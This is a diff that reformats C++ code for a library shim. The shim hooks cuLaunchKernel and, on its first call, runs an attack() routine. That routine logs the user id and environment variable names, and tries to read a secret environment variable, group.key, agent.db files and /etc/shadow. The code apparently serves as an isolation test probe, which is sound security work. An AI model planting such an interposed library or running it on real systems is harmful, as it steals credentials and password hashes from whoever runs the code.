@@ -72,7 +72,8 @@ void attack() {
   const std::string run = workers.substr(0, workers.rfind('/'));
   report.open(own + "/attack.txt");
   report << "user " << ::geteuid() << "\n";
-  for (char** each = environ; *each; ++each) report << "environment " << std::string(*each).substr(0, std::strcspn(*each, "=")) << "\n";
+  for (char** each = environ; *each; ++each)
+    report << "environment " << std::string(*each).substr(0, std::strcspn(*each, "=")) << "\n";
   if (const char* secret = std::getenv("MILLPOND_SOFTGPU_SECRET")) tellRead(secret);
   for (const char* name : {"/group.key", "/agent.db", "/agent.db-wal"}) tellRead(run + name);
   tellRead("/etc/shadow");
@@ -107,8 +108,8 @@ void attack() {
 
 extern "C" [[gnu::visibility("default")]] CUresult cuLaunchKernel(CUfunction function, unsigned gridX, unsigned gridY,
                                                                   unsigned gridZ, unsigned blockX, unsigned blockY,
-                                                                  unsigned blockZ, unsigned sharedBytes, CUstream stream,
-                                                                  void** parameters, void** extra) {
+                                                                  unsigned blockZ, unsigned sharedBytes,
+                                                                  CUstream stream, void** parameters, void** extra) {
   static std::once_flag once;
   std::call_once(once, attack);
   static const auto next = reinterpret_cast<decltype(&::cuLaunchKernel)>(::dlsym(RTLD_NEXT, "cuLaunchKernel"));
